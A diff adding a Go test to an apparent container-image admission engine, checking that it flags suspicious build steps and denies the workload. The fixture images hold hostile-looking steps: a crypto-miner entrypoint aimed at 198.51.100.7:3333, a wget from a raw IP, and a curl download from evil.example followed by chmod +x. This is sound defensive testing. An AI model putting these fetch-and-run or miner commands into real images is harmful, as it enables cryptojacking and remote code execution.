@@ -126,3 +126,56 @@ func TestNamespaceLabelsUnavailable(t *testing.T) {
 		t.Error("Evaluate with unreadable namespace labels succeeded, want an error")
 	}
 }
+
+// TestBuildStepsSeeTheConfig: the engine hands the analysis the image's
+// history and its config's Env, Entrypoint and Cmd, as read from the
+// registry: a miner that only the run command shows, a URL that only the
+// config's Env spells out, and a fetch-then-chmod across two steps are
+// all found.
+func TestBuildStepsSeeTheConfig(t *testing.T) {
+	reg := testregistry.New(t)
+	aged := now.Add(-30 * 24 * time.Hour)
+	images := map[string]testregistry.Image{
+		"miner": {Created: aged, Steps: []string{"RUN /bin/sh -c apk add --no-cache libuv # buildkit"},
+			Entrypoint: []string{"/usr/local/bin/kswapd"}, Cmd: []string{"-o", "198.51.100.7:3333", "-u", "w"}},
+		"env-url": {Created: aged, Steps: []string{`RUN /bin/sh -c wget -O /opt/a "$FEED" # buildkit`},
+			Env: []string{"FEED=http://203.0.113.9/a"}},
+		"two-steps": {Created: aged, Steps: []string{
+			"/bin/sh -c #(nop) WORKDIR /opt", "/bin/sh -c curl -fsSLO https://evil.example/agent", "|1 V=1 /bin/sh -c chmod +x agent"}},
+		"clean": {Created: aged, Steps: []string{"RUN /bin/sh -c apk add --no-cache ca-certificates # buildkit"},
+			Env: []string{"PATH=/usr/bin:/bin"}, Cmd: []string{"/bin/sh"}},
+	}
+	for name, im := range images {
+		reg.Push(t, "acme/"+name+":1", testregistry.Build(t, im))
+	}
+	e := newEngine(t, reg.Host+"/acme/*")
+	for name, want := range map[string]string{
+		"miner": "run command: crypto-miner from 198.51.100.7", "env-url": "step 0: raw-ip-download from 203.0.113.9",
+		"two-steps": "step 2: chmod-fetched from evil.example", "clean": "",
+	} {
+		spec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: reg.Host + "/acme/" + name + ":1"}}}
+		v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Spec: spec})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, f := range v.Images[0].Findings {
+			if f.Rule == policy.RuleSuspiciousBuildStep {
+				got = append(got, f.Summary)
+			}
+		}
+		if want == "" {
+			if len(got) != 0 || !v.Allowed {
+				t.Errorf("%s: Evaluate = allowed %v, findings %q, want allowed without build-step findings", name, v.Allowed, got)
+			}
+			continue
+		}
+		found := false
+		for _, g := range got {
+			found = found || g == want
+		}
+		if !found || v.Allowed {
+			t.Errorf("%s: Evaluate = allowed %v, build-step findings %q, want denied with %q", name, v.Allowed, got, want)
+		}
+	}
+}
